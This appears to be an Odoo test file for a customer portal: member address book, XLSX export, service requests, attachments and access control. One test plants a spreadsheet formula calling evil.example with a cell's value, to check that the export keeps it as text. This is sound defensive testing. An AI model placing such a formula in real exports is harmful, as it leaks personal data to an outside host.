import io
from unittest.mock import patch

import openpyxl

from odoo.http import Request
from odoo.sql_db import Cursor
from odoo.tests import HttpCase, tagged

from .common_service_request import KamServiceRequestCommon


class KamPortalCase(HttpCase, KamServiceRequestCommon):

    def _post(self, url, data, files=None):
        return self.url_open(url, data=dict(data, csrf_token=Request.csrf_token(self)), files=files)

    def _submit(self, request_type, lines=(), files=None, **values):
        data = {'type_id': request_type.id, 'contact_phone': '13805710001'}
        data.update(values)
        for slot, line in enumerate(lines):
            data.update({f'line_{slot}_{key}': value for key, value in line.items()})
        return self._post('/my/requests/submit', data, files)

    def _requests(self):
        return self.env['kam.service.request'].search([('partner_id', 'child_of', self.group_a.id)])

    def _count_page_queries(self, url):
        self.url_open(url)  # warm the caches of the page
        count = [0]
        execute = Cursor.execute

        def counted(cursor, query, params=None, log_exceptions=None):
            count[0] += 1
            return execute(cursor, query, params, log_exceptions)

        with patch.object(Cursor, 'execute', counted):
            response = self.url_open(url)
        self.assertEqual(response.status_code, 200)
        return count[0], response


@tagged('post_install', '-at_install')
class TestMemberPortal(KamPortalCase):

    def test_address_book_of_own_group_only(self):
        self.authenticate(self.portal_b.login, self.portal_b.login)
        page = self.url_open('/my/members').text
        self.assertIn("沈洁", page)
        self.assertNotIn("陈明", page)
        self.assertNotIn("13805710001", page)
        # the subsidiary's clerk reads the whole group's address book
        self.authenticate(self.portal_sub_a.login, self.portal_sub_a.login)
        page = self.url_open('/my/members?search=1380571').text
        self.assertIn("陈明", page)
        self.assertNotIn("刘芳", page, "the search narrows the list")
        self.assertNotIn("沈洁", page)

    def test_export_xlsx(self):
        self.authenticate(self.portal_a.login, self.portal_a.login)
        response = self.url_open('/my/members/export')
        self.assertEqual(response.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(rows[0][:3], ("Name", "Mobile", "Company"))
        names = {row[0] for row in rows[1:]}
        self.assertEqual(names, {"陈明", "刘芳", "郑强"})
        self.assertIn("13757163301", {row[1] for row in rows[1:]})
        self.authenticate(self.portal_b.login, self.portal_b.login)
        sheet = openpyxl.load_workbook(io.BytesIO(self.url_open('/my/members/export').content)).active
        self.assertEqual([row[0] for row in sheet.iter_rows(min_row=2, values_only=True)], ["沈洁"])

    def test_export_keeps_text_as_text(self):
        formula = '=HYPERLINK("http://evil.example/?"&B2,"点我")'
        self._create_member(formula, "13605710009", department="http://intranet.example")
        self.authenticate(self.portal_a.login, self.portal_a.login)
        response = self.url_open('/my/members/export')
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        row = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "13605710009")
        self.assertEqual((row[0].data_type, row[0].value), ('s', formula), "text, not a formula")
        self.assertEqual((row[3].value, row[3].hyperlink), ("http://intranet.example", None))
        self.assertEqual(row[1].data_type, 's')

    def test_members_page_queries(self):
        self.authenticate(self.portal_a.login, self.portal_a.login)
        self.url_open('/my/members')
        few, _response = self._count_page_queries('/my/members')
        self.env['kam.member'].create([{
            'name': f"成员{i}", 'mobile': f"1390000{i:04d}", 'partner_id': (self.group_a if i % 2 else self.sub_a).id,
            'product_id': self.plan.id} for i in range(80)])
        many, response = self._count_page_queries('/my/members')
        self.assertIn("成员1", response.text)
        self.assertLessEqual(many, few + 2, "a page of 80 members costs what a page of 3 does")


@tagged('post_install', '-at_install')
class TestServiceRequestPortal(KamPortalCase):

    def test_member_addition_by_group_admin(self):
        self.authenticate(self.portal_a.login, self.portal_a.login)
        response = self._submit(self.type_member, lines=[{
            'operation': 'member_add', 'member_name': "高晓燕", 'mobile': '136 0671 2345',
            'member_partner_id': self.sub_a.id, 'department': "信息中心"}])
        request = self._requests()
        self.assertEqual(len(request), 1, response.text[:2000])
        self.assertEqual(request.state, 'submitted')
        self.assertEqual(request.requester_partner_id, self.portal_a.partner_id)
        self.assertEqual(request.line_ids.mobile, '13606712345')
        self.assertIn(f'/my/requests/{request.id}', response.url)
        self.assertIn(request.name, response.text)
        # listed for the customer, never for the other one
        self.assertIn(request.name, self.url_open('/my/requests').text)
        self.authenticate(self.portal_b.login, self.portal_b.login)
        self.assertNotIn(request.name, self.url_open('/my/requests').text)
        response = self.url_open(f'/my/requests/{request.id}')
        self.assertNotIn(request.name, response.text)
        self.assertTrue(response.url.endswith('/my'))

    def test_non_admin_limited_to_own_company(self):
        self.authenticate(self.portal_sub_a.login, self.portal_sub_a.login)
        # removing an HQ member, adding one to HQ: refused
        response = self._submit(self.type_member, lines=[
            {'operation': 'member_remove', 'member_id': self.member_a1.id}])
        self.assertIn("o_kam_request_error", response.text)
        response = self._submit(self.type_member, lines=[
            {'operation': 'member_add', 'member_name': "X", 'mobile': '13606712345',
             'member_partner_id': self.group_a.id}])
        self.assertIn("o_kam_request_error", response.text)
        self.assertFalse(self._requests())
        # ... also when given by number
        response = self._submit(self.type_member, lines=[
            {'operation': 'member_remove', 'member_mobile': self.member_a1.mobile}])
        self.assertIn("o_kam_request_error", response.text)
        self.assertFalse(self._requests())
        # the own company's member: accepted, picked or given by its number
        self._submit(self.type_member, lines=[{'operation': 'member_remove', 'member_id': self.member_sub.id}])
        self.assertEqual(self._requests().line_ids.member_id, self.member_sub)
        self._submit(self.type_member, lines=[
            {'operation': 'member_change', 'member_mobile': '137 5716 3301', 'department': "调度中心"}])
        self.assertEqual(self._requests().line_ids.member_id, self.member_sub)
        self.assertEqual(len(self._requests()), 2)

    def test_forged_ids_refused(self):
        self.authenticate(self.portal_a.login, self.portal_a.login)
        for values, lines in (
            ({}, [{'operation': 'member_remove', 'member_id': self.member_b.id}]),
            ({}, [{'operation': 'member_change', 'member_id': 999999, 'department': "x"}]),
            ({'partner_id': self.group_b.id}, [{'operation': 'number', 'number': '1'}]),
            ({'type_id': 999999}, [{'operation': 'number', 'number': '1'}]),
        ):
            request_type = self.type_member if lines[0]['operation'].startswith('member') else self.type_fault
            response = self._submit(request_type, lines=lines, **values)
            self.assertEqual(response.status_code, 200)
        self.assertFalse(self.env['kam.service.request'].search([]).filtered(
            lambda r: r.requester_partner_id == self.portal_a.partner_id))
        self.assertEqual(self.member_b.state, 'active')

    def test_bad_input(self):
        self.authenticate(self.portal_a.login, self.portal_a.login)
        cases = [
            (self.type_member, [{'operation': 'member_add', 'member_name': "X", 'mobile': '12345'}],
             {}, None, "not a valid Chinese mobile"),
            (self.type_member, [{'operation': 'member_add', 'member_name': "X", 'mobile': '13805710001'}],
             {}, None, "already enrolled"),
            (self.type_fault, [{'operation': 'number', 'number': 'X'}], {'contact_phone': ''}, None,
             "contact phone"),
            (self.type_cancel_scheduled, [{'operation': 'number', 'number': 'X'}], {}, None, "wished date"),
            (self.type_cancel_scheduled, [{'operation': 'number', 'number': 'X'}],
             {'date_requested': '2020-01-01'}, None, "in the past"),
            (self.type_fault, [{'operation': 'number', 'number': 'X'}], {}, {
                'attachments': ('tool.exe', b'MZ\x90\x00' + b'\x00' * 200, 'application/octet-stream')},
             "cannot be attached"),
        ]
        for request_type, lines, values, files, message in cases:
            response = self._submit(request_type, lines=lines, files=files, **values)
            self.assertIn(message, response.text, message)
        self.env['ir.config_parameter'].set_param('key_account_management.request_max_attachment_mb', 1)
        response = self._submit(self.type_fault, lines=[{'operation': 'number', 'number': 'X'}], files={
            'attachments': ('big.pdf', b'%PDF-1.4\n' + b'0' * (1024 * 1024 + 10), 'application/pdf')})
        self.assertIn("above the limit", response.text)
        self.assertFalse(self._requests())
        self.assertFalse(self.env['ir.attachment'].search([('res_model', '=', 'kam.service.request')]))
        # a proper letter is attached
        self._submit(self.type_fault, lines=[{'operation': 'number', 'number': 'X'}], files={
            'attachments': ('letter.pdf', b'%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF', 'application/pdf')})
        self.assertEqual(self.env['ir.attachment'].search([('res_model', '=', 'kam.service.request')]).name,
                         'letter.pdf')

    def test_cancel_and_rate(self):
        self.authenticate(self.portal_a.login, self.portal_a.login)
        self._submit(self.type_fault, lines=[{'operation': 'number', 'number': 'X'}])
        request = self._requests()
        self._post(f'/my/requests/{request.id}/rate', {'rating': 5})
        self.assertFalse(request.rating_ids.filtered('consumed'), "not done: no rating")
        self._post(f'/my/requests/{request.id}/cancel', {})
        self.assertEqual(request.state, 'cancelled')
        self._submit(self.type_fault, lines=[{'operation': 'number', 'number': 'Y'}])
        request = self._requests() - request
        request.action_accept()
        response = self._post(f'/my/requests/{request.id}/cancel', {})
        self.assertEqual(request.state, 'accepted', "only while submitted")
        self.assertIn("o_kam_request_error", response.text)
        request.action_start()
        request.action_done()
        # another customer cannot rate it
        self.authenticate(self.portal_b.login, self.portal_b.login)
        self._post(f'/my/requests/{request.id}/rate', {'rating': 1})
        self.assertFalse(request.rating_ids.filtered('consumed'))
        self.authenticate(self.portal_a.login, self.portal_a.login)
        self._post(f'/my/requests/{request.id}/rate', {'rating': 9})
        self.assertFalse(request.rating_ids.filtered('consumed'))
        response = self._post(f'/my/requests/{request.id}/rate', {'rating': 4, 'comment': "Fast"})
        self.assertEqual(request.rating_ids.filtered('consumed').rating, 4)
        self.assertIn("o_kam_request_rated", response.text)

    def _chatter_files(self, request):
        """The files of the work order's conversation as the portal chatter
        gets them (with the access tokens of their download links)."""
        result = self.make_jsonrpc_request('/mail/chatter_fetch', {
            'thread_model': request._name, 'thread_id': request.id})
        return [file for message in result['data']['mail.message']
                for file in message['attachment_ids']]

    def test_files_attached_in_the_portal_download_for_their_customer_only(self):
        letter = b'%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF'
        self.authenticate(self.portal_a.login, self.portal_a.login)
        self._submit(self.type_fault, lines=[{'operation': 'number', 'number': 'X'}], files={
            'attachments': ('letter.pdf', letter, 'application/pdf')})
        request = self._requests()
        attachment = self.env['ir.attachment'].search([
            ('res_model', '=', request._name), ('res_id', '=', request.id)])
        self.assertEqual(attachment.name, 'letter.pdf')
        # the service desk answers in an internal note with a file of its own
        note = request.message_post(
            body="Line test report", message_type='comment', subtype_xmlid='mail.mt_note',
            attachments=[('line_test.pdf', letter)])
        internal = note.attachment_ids
        url = f'/web/content/{attachment.id}?download=true'
        # the customer who attached it finds it in the work order's conversation, and downloads it
        files = self._chatter_files(request)
        self.assertEqual([(f['id'], f['name']) for f in files], [(attachment.id, 'letter.pdf')])
        response = self.url_open(f"{url}&access_token={files[0]['raw_access_token']}")
        self.assertEqual((response.status_code, response.content), (200, letter))
        response = self.url_open(url)
        self.assertEqual((response.status_code, response.content), (200, letter))
        self.assertEqual(self.url_open(f'/web/content/{internal.id}').status_code, 404,
                         "internal notes stay internal")
        # another customer does not, nor a clerk of the subsidiary (who does not read A's orders)
        for user in (self.portal_b, self.portal_sub_a):
            self.authenticate(user.login, user.login)
            self.assertFalse(self._chatter_files(request))
            response = self.url_open(url)
            self.assertEqual(response.status_code, 404, user.login)
            self.assertNotEqual(response.content, letter)
        # the work order's own link opens its files, a wrong token does not
        self.authenticate(None, None)
        token = request._portal_ensure_token()
        response = self.url_open(f'{url}&access_token={token}')
        self.assertEqual((response.status_code, response.content), (200, letter))
        self.assertEqual(self.url_open(f'{url}&access_token={token[::-1]}').status_code, 404)
        self.assertEqual(self.url_open(f'/web/content/{internal.id}?access_token={token}').status_code,
                         404)
        self.assertEqual(self.url_open(url).status_code, 404)

    def test_requests_list_queries(self):
        self.authenticate(self.portal_a.login, self.portal_a.login)
        self._submit(self.type_fault, lines=[{'operation': 'number', 'number': 'X'}])
        self.url_open('/my/requests')
        few, _response = self._count_page_queries('/my/requests')
        requests = self.env['kam.service.request'].create([{
            'type_id': self.type_fault.id, 'partner_id': (self.group_a if i % 2 else self.sub_a).id,
            'contact_phone': '13805710001', 'requester_partner_id': self.portal_a.partner_id.id,
            'line_ids': [(0, 0, {'operation': 'number', 'number': str(i)})]} for i in range(30)])
        requests.action_submit()
        many, response = self._count_page_queries('/my/requests')
        self.assertIn(requests[-1].name, response.text)
        self.assertLessEqual(many, few + 3, "a page of 20 work orders costs what a page of 1 does")


@tagged('post_install', '-at_install')
class TestServiceRequestTour(KamPortalCase):

    def test_member_addition_tour(self):
        """In Chromium: the group administrator asks for a new member in the
        portal; the account manager approves, starts and completes it; the
        member is in the portal address book."""
        self.start_tour('/my/requests/new', 'kam_service_request_portal_tour',
                        login=self.portal_a.login)
        request = self._requests()
        self.assertEqual(request.state, 'submitted')
        self.start_tour(f'/odoo/action-key_account_management.kam_service_request_action/{request.id}',
                        'kam_service_request_backend_tour', login=self.user_kam.login)
        self.assertEqual(request.state, 'done')
        member = self.env['kam.member'].search([('mobile', '=', '13606712345')])
        self.assertEqual(member.group_id, self.group_a)
        self.start_tour('/my/members?search=13606712345', 'kam_member_address_book_tour',
                        login=self.portal_a.login)
